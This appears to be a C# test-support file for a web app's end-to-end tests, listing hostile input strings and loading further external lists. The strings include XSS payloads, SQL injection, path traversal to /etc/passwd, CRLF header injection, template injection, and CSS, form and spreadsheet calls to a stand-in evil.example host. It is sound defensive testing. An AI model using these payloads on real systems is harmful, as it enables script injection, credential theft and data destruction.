using System.Text.Json;

namespace ConvoWeb.Tests.E2E.Support;

/// <summary>What somebody may write who means harm. Whatever of it ran would set <c>window.ran</c>, open a dialog or ask another origin.</summary>
internal static class HostileStrings
{
    private const string Variable = "CONVOWEB_SAMPLES";

    /// <summary>What a page that took it for markup would run or load.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>window.ran = 1</script>",
        "<img src=x onerror='window.ran = 2'>",
        "<svg/onload=window.ran=3>",
        "[a link](javascript:window.ran=4) and <javascript:window.ran=5>",
        "[data](data:text/html,<script>window.ran=6</script>)",
        "![picture](https://tracker.example/pixel.png)",
        "<iframe srcdoc='<script>parent.ran = 7</script>'></iframe>",
        "```html\n<script>window.ran = 8</script>\n```",
        "\"><b onmouseover=window.ran=9>hover</b>",
        "<style>body { display: none }</style><base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<form action='https://evil.example'><button>Sign in</button></form>",
        "[x](https://example.com/\"onmouseover=\"window.ran=10)",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. Markup,
        "javascript:window.ran=11",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTEyPC9zY3JpcHQ+",
        "</title></textarea></style></script><script>window.ran=13</script>",
        "' autofocus onfocus=window.ran=14 x='",
        "x\" style=\"background:url(https://evil.example/css)\" onclick=\"window.ran=15",
        "red;background:url(https://evil.example/value);} body{display:none",
        "@import url(https://evil.example/import.css);",
        "Report \u202Efdp.exe \u2066and\u2069 \u200Fback",
        "zero\u200Bwidth\u200D\uFEFF and \u00ADsoft",
        "\u200B\u200B",
        "nothing\0after it",
        "line\r\nX-Injected: yes\r\n\r\n<script>window.ran=16</script>",
        new string('W', 10_000),
        "{{constructor.constructor('window.ran=17')()}} ${window.ran=18} @(1+1) #{7*7} <%= 7*7 %>",
        "Robert'); DROP TABLE conversations;--",
        "\" OR 1=1 /* % _ \\ *",
        "../../../etc/passwd\0.png",
        "%3Cscript%3Ewindow.ran=19%3C/script%3E &lt;script&gt;window.ran=20&lt;/script&gt; &#x3C;b&#x3E;",
        "Z\u0324\u0348\u0353a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308l\u0315\u031Bgo \u2028 \u2029 \u0007",
        "=HYPERLINK(\"https://evil.example\",\"x\")",
    ];

    /// <summary>Those that others collected, in the folder that CONVOWEB_SAMPLES names; null without it.</summary>
    public static IReadOnlyList<string>? Collected()
    {
        if (Environment.GetEnvironmentVariable(Variable) is not { Length: > 0 } samples)
        {
            return null;
        }

        var folder = Path.Combine(samples, "nasty");
        var naughty = JsonSerializer.Deserialize<string[]>(File.ReadAllBytes(Path.Combine(folder, "blns.json")))!;
        return [.. naughty.Concat(File.ReadLines(Path.Combine(folder, "xss-payloads.even.txt"))).Where(text => !string.IsNullOrWhiteSpace(text)).Distinct(StringComparer.Ordinal)];
    }

    /// <summary>As the product keeps it: no longer than <paramref name="max"/> characters, and what no database holds replaced.</summary>
    public static string Kept(string text, int max) => string.Concat(text.Replace('\0', '\uFFFD').EnumerateRunes().Take(max));

    /// <summary>A page that has a place of its own (HTML knows no line breaks but one, and no control characters by number) shows it like this.</summary>
    public static string Seen(string text) => string.Join(' ', text.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries));
}
